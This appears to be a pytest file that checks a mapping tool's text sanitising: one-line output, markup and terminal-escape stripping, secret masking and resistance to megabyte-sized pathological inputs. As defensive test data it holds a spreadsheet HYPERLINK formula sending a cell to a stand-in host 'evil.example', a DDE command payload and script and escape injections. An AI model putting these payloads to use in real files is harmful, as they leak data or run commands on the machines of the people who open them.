"""Text of others becomes one plain line, in time that grows with its length; it shows no key, steers no terminal and is
no formula in a table.
"""

from __future__ import annotations

import csv
import html
import importlib
import json
import sqlite3
import warnings
from contextlib import closing
from urllib.parse import quote, quote_plus

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from terrainav.core.limits import MAX_LINE_CHARACTERS
from terrainav.core.numbers import integer, real_number
from terrainav.core.text.plain import (
    CUT,
    first_words,
    one_line,
    printable,
    table_cell,
    whole_number,
    without_markup,
)
from terrainav.core.text.secrets import MASK, Secrets

from tests.support.command import command
from tests.support.patterns import positions, to_bytes
from tests.support.services import ServiceServer, matrix, matrix_set, wmts_document, wmts_layer
from tests.support.thinning import examples

MEGABYTE = 1 << 20
# What made patterns try each beginning anew took hours for a megabyte; all of this takes hundredths of a second.
ATTACKS = {
    name: (piece * (MEGABYTE // len(piece) + 1))[:MEGABYTE]
    for name, piece in {
        "brackets": "<",
        "tags": "<a",
        "comments": "<!--",
        "titles": "<title",
        "whole titles": "<title>",
        "scripts": "<script>",
        "versions": "<WMS_Capabilities version ",
        "entities": "&a",
        "percent signs": "%25",
        "backslashes": "\\u",
        "marks of a cut": CUT,
        "spaces": " ",
        "lists": "[",
        "digits": "9",
    }.items()
}
ATTACKS["a number"] = "&#" + "9" * MEGABYTE


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_hostile_megabyte_is_cut(attack):
    assert len(one_line(attack)) <= MAX_LINE_CHARACTERS
    without_markup(attack)
    for kind in ("text/html", "application/json"):
        assert len(first_words(attack.encode(), kind, Secrets(["a/b c+d<e>"]).masked)) <= 200
    Secrets(["a/b c+d<e>"]).masked(attack)
    whole_number(attack)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        (None, ""),
        ("  two\n lines\t", "two lines"),
        (
            "\N{COPYRIGHT SIGN} <a href='x>y'>OpenStreetMap</a>,<br/>others",
            "\N{COPYRIGHT SIGN} y'>OpenStreetMap, others",
        ),
        ("&copy; A &amp; B", "\N{COPYRIGHT SIGN} A & B"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("a<!-- <b> -->b<script>steal()</script >c", "a b c"),
        ("<script>steal()", ""),
        ("red \x1b[31m, \u202eright to left, bell\x07", "red [31m, right to left, bell"),
        ("x" * 400, "x" * (MAX_LINE_CHARACTERS - 1) + CUT),
    ],
)
def test_one_line(text, line):
    assert one_line(text) == line


@given(st.text(max_size=400))
def test_one_line_is_one_and_can_be_printed(text):
    line = one_line(text)
    assert line.isprintable()
    assert len(line) <= MAX_LINE_CHARACTERS
    assert line == " ".join(line.split())


@given(st.text(alphabet="<>!-/ abscript", max_size=60))
def test_nothing_of_a_tag_is_left(text):
    plain = without_markup(f"{text}<b>bold</b>", "")
    assert "<b>" not in plain.rpartition("bold")[0][-3:]


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("7", 7),
        (" 120 ", 120),
        ("007", 7),
        ("9" * 4400, 10**18),
        ("", None),
        ("-1", None),
        ("+1", None),
        ("1_0", None),
        ("1.5", None),
        ("\N{SUPERSCRIPT TWO}", None),
        ("\N{ARABIC-INDIC DIGIT TWO}", None),
    ],
)
def test_whole_numbers_are_of_plain_digits(text, number):
    assert whole_number(text) == number


def test_a_body_of_brackets_is_no_stack_of_calls():
    assert first_words(b"[" * 8000, "application/json") == "[" * 199 + CUT


SPELLINGS = {
    "as it is": str,
    "percent": quote,
    "all percent": lambda text: quote(text, safe=""),
    "plus": quote_plus,
    "twice": lambda text: quote(quote(text, safe=""), safe=""),
    "html": html.escape,
    "json": lambda text: json.dumps(text)[1:-1],
    "every byte": lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    "every character": lambda text: "".join(f"&#{ord(one)};" for one in text),
}
# HTML has other characters for the numbers of control characters.
KEYS = st.text(st.characters(exclude_categories=("C", "Z")), min_size=6, max_size=40)


@pytest.mark.parametrize("spell", SPELLINGS.values(), ids=SPELLINGS)
@given(key=KEYS)
def test_a_key_is_masked_however_it_is_spelled(spell, key):
    masked = Secrets([key]).masked(f"before\0{spell(key)}\0after")
    # A backslash that stands for another may stay.
    assert masked.replace("\\", "") == f"before\0{MASK}\0after"


@settings(max_examples=examples(30))
@given(key=st.from_regex(r"[A-Za-z0-9/+=_&-]{8,40}", fullmatch=True), share=st.floats(0.1, 1.0))
@pytest.mark.parametrize("spell", SPELLINGS.values(), ids=SPELLINGS)
def test_the_beginning_of_a_key_that_was_cut_short_is_masked(spell, key, share):
    written = spell(key)
    # The beginning of its first character says nothing.
    part = written[: max(len(spell(key[:1])), int(len(written) * share))]
    for tried in ("", " (tried 2 times)"):
        assert Secrets([key]).masked(f"\0{part}{CUT}{tried}") == f"\0{MASK}{CUT}{tried}"


@given(st.text(max_size=80))
def test_text_without_a_key_stays_as_it_is(text):
    assert Secrets(["a key that is not in it"]).masked(text) == text or CUT in text
    assert Secrets([]).masked(text) == text


def test_a_key_across_the_end_of_what_is_looked_at_does_not_show():
    key = "AIzaSyExample-0123456789"
    for before in range(16384 - len(key), 16384):
        assert "AIza" not in first_words(b" " * before + key.encode() + b" and more", "", Secrets([key]).masked)


# --- tables and terminals

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"see")'


@pytest.mark.parametrize("text", [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formulas_are_text_in_tables(text):
    written = table_cell(text)
    assert written.startswith("'")
    assert written.isprintable()
    # Writing it again changes nothing.
    assert table_cell(written) == written


@pytest.mark.parametrize("text", ["© Survey of Nowhere", "Überflug 2020", "", "a = b - c", "a@b"])
def test_other_text_is_as_it_is(text):
    assert table_cell(text) == printable(text) == text


def test_what_controls_a_terminal_is_left_out():
    assert printable("a\x1b]0;title\x07b\x9b31m\u202ec\nd") == "a ]0;title b 31m c d"


def test_a_capture_s_table_has_no_formula_of_a_file(tmp_path, monkeypatch, capsys):
    """The name, the attribution and the reason of a failure are those of whoever made the MBTiles."""
    run = command(tmp_path, monkeypatch, capsys)
    path = tmp_path / "own.mbtiles"
    with closing(sqlite3.connect(path)) as database:
        database.execute("CREATE TABLE metadata (name text, value text)")
        database.execute("CREATE TABLE tiles (zoom_level int, tile_column int, tile_row int, tile_data blob)")
        for name in ("name", "attribution"):
            database.execute("INSERT INTO metadata VALUES (?, ?)", (name, FORMULA))
        zoom, x, north = 15, 8201, 12961
        for column in range(x - 3, x + 4):
            for row in range(north - 3, north + 4):
                body = to_bytes(positions("", zoom, column, row, 256), "png")
                database.execute("INSERT INTO tiles VALUES (?, ?, ?, ?)", (zoom, column, (1 << zoom) - 1 - row, body))
        database.commit()
    made = run("capture", "--coords", "35.16_-89.90_400", "--source", str(path), "--zoom", "15", "--data-dir", "out")
    assert made.returncode == 0, made.stderr
    with (tmp_path / "out" / "satellite" / "meta_data.csv").open(encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["source"] == row["attribution"] == f"'{FORMULA}"


def test_layers_of_a_service_steer_no_terminal(tmp_path, monkeypatch, capsys):
    pytest.importorskip("owslib")
    with warnings.catch_warnings():
        # It imports a module that Python is going to drop; that is for it to change.
        warnings.simplefilter("ignore", DeprecationWarning)
        importlib.import_module("owslib.wmts")
    run = command(tmp_path, monkeypatch, capsys)
    layers = [wmts_layer("a&#x9b;31m&#x202e;b", {"quad": []}, title=""), wmts_layer("c", {"quad": []})]
    with ServiceServer() as server:
        sets = [matrix_set("quad", [matrix("0", 0)])]
        server.answer = lambda *_: (200, "text/xml", wmts_document(layers, sets, get_tile=server.url))
        for name in ("", "#layer=a\x9b31m\u202eb", "#layer=none"):
            made = run("sources", "show", f"wmts:{server.url}/c.xml{name}")
            assert all(line.isprintable() for line in (made.stdout + made.stderr).splitlines())
            assert "31m" in made.stdout + made.stderr


@given(st.floats(allow_nan=False) | st.integers(-(10**6), 10**6))
def test_numbers_are_what_python_writes(number):
    assert real_number(f" {number!r}\n") == number
    if isinstance(number, int):
        assert integer(f"{number:+d}") == number


@pytest.mark.parametrize("text", ["1_20", "1_0.5", "\u0661\u0662", "\uff11", "12,5", "", "0x10"])
def test_numbers_have_plain_digits_alone(text):
    for read in (real_number, integer):
        with pytest.raises(ValueError, match=r"could not convert|invalid literal"):
            read(text)
